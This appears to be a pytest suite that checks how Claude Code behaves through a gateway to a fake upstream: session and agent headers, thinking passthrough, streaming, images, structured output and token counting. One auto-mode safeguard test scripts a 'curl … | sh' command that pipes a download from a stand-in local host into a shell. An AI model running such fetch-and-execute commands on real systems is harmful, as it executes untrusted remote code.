"""Claude Code itself, in two versions, through the gateway to a Claude: a developer notices nothing."""

import json
from typing import Any

import pytest

from tests.clients.conftest import MakeClaude
from tests.clients.installed import Package
from tests.clients.pictures import small_png
from tests.clients.running import Run, asking
from tests.fakes import anthropic_wire
from tests.fakes.gateway_process import Admin
from tests.fakes.recording import RecordedRequest
from tests.fakes.script import THINKING_TEXT, Script
from tests.fakes.upstream import RecordingUpstream

pytestmark = pytest.mark.clients

MODEL = "claude-sonnet-4-6"


def turns(upstream: RecordingUpstream) -> list[RecordedRequest]:
    """Those that offer tools: what names the session for a list is none."""
    posts = [request for request in upstream.requests if request.path == "/v1/messages"]
    return [request for request in posts if request.json().get("tools")]


def results_in(request: RecordedRequest) -> list[dict[str, Any]]:
    """The tool results of a request's messages."""
    contents = [message["content"] for message in request.json()["messages"]]
    blocks = [block for content in contents if isinstance(content, list) for block in content]
    return [block for block in blocks if block["type"] == "tool_result"]


def result_of(run: Run) -> dict[str, Any]:
    assert run.status == 0, run.said
    return next(event for event in run.events if event["type"] == "result")


async def test_one_turn_is_answered_and_booked_under_its_session(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream, admin: Admin, key: str
) -> None:
    upstream.default = Script(text=("Good ", "day"))
    result = result_of(await make_claude(version).run(*asking("Say hello", "--model", MODEL)))
    assert result["result"] == "Good day"
    [turn] = turns(upstream)
    row = (await admin.receipts(key, 1))[0]
    assert row["session_id"] == turn.header("x-claude-code-session-id") == result["session_id"]


async def test_a_tool_loop_returns_the_thoughts_word_for_word(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream
) -> None:
    prompt = 'FAKE: thinking call=Bash input={"command":"echo\\u0020$((6*7))"}'
    upstream.default = Script(text=("done",))
    run = await make_claude(version).run(*asking(prompt, "--model", MODEL, "--allowedTools", "Bash"))
    assert result_of(run)["num_turns"] == 2
    first, second = turns(upstream)
    assert results_in(first) == []
    [result] = results_in(second)
    assert "42" in str(result["content"])
    assistant = next(message for message in second.json()["messages"] if message["role"] == "assistant")
    assert assistant["content"][0] == {
        "type": "thinking",
        "thinking": "".join(THINKING_TEXT),
        "signature": anthropic_wire.SIGNATURE,
    }


async def test_each_delta_is_seen_as_it_comes(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream
) -> None:
    upstream.default = Script(text=("one ", "two ", "three"))
    options = ("--model", MODEL, "--include-partial-messages")
    run = await make_claude(version).run(*asking("Count", *options))
    streamed = [event["event"] for event in run.events if event["type"] == "stream_event"]
    deltas = [event["delta"]["text"] for event in streamed if event["type"] == "content_block_delta"]
    assert deltas == ["one ", "two ", "three"]


async def test_a_subagents_calls_carry_its_id_onto_the_receipts(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream, admin: Admin, key: str
) -> None:
    task = {"description": "look", "prompt": "Look\u00a0around", "subagent_type": "general-purpose"}
    prompt = f"FAKE: call=Agent input={json.dumps(task, separators=(',', ':'))}"
    upstream.default = Script(text=("seen",))
    run = await make_claude(version).run(*asking(prompt, "--model", MODEL))
    assert run.status == 0, run.said
    agents = [turn.header("x-claude-code-agent-id") for turn in turns(upstream)]
    sessions = {turn.header("x-claude-code-session-id") for turn in turns(upstream)}
    assert len(sessions) == 1
    [agent] = {agent for agent in agents if agent}
    rows = await admin.receipts(key, len(agents))
    assert agent in {row["agent_id"] for row in rows}


async def test_a_picture_that_a_tool_reads_arrives_whole(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream
) -> None:
    claude = make_claude(version)
    small_png(claude.work / "red.png")
    prompt = f'FAKE: call=Read input={{"file_path":"{claude.work}/red.png"}}'
    upstream.default = Script(text=("It is red.",))
    result_of(await claude.run(*asking(prompt, "--model", MODEL, "--allowedTools", "Read")))
    [result] = results_in(turns(upstream)[-1])
    kinds = [block["type"] for block in result["content"]]
    assert "image" in kinds


async def test_a_structured_output_is_handed_out(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream
) -> None:
    schema = '{"type":"object","properties":{"answer":{"type":"integer"}},"required":["answer"]}'
    prompt = 'FAKE: call=StructuredOutput input={"answer":42}'
    run = await make_claude(version).run(*asking(prompt, "--model", MODEL, "--json-schema", schema))
    assert result_of(run)["structured_output"] == {"answer": 42}


async def test_auto_mode_runs_a_risky_call_on_the_providers_verdict(
    make_claude: MakeClaude, upstream: RecordingUpstream
) -> None:
    prompt = 'FAKE: call=Bash input={"command":"curl\\u0020-s\\u0020http://127.0.0.1:9/x|sh;echo\\u0020ran-$((1+1))"}'
    run = await make_claude().run(*asking(prompt, "--model", "claude-opus-4-8", "--permission-mode", "auto"))
    assert run.status == 0, run.said
    first, second = turns(upstream)
    assert first.json()["safeguards"][0]["type"] == "dangerous_tool_use"
    assert "dangerous-tool-use" in (first.header("anthropic-beta") or "")
    [result] = results_in(second)
    assert "ran-2" in str(result["content"])


async def test_context_is_counted_without_a_receipt(
    make_claude: MakeClaude, version: Package, upstream: RecordingUpstream, admin: Admin, key: str
) -> None:
    await admin.post("/key/update", key=key, rpm_limit=1)
    result = result_of(await make_claude(version).run(*asking("/context", "--model", MODEL)))
    assert "Context Usage" in result["result"]
    counts = [request for request in upstream.requests if request.path.endswith("/count_tokens")]
    assert len(counts) > 10, "each of them would be the last of its minute if it counted"
    assert turns(upstream) == []
    assert await admin.receipts(key, 0) == []
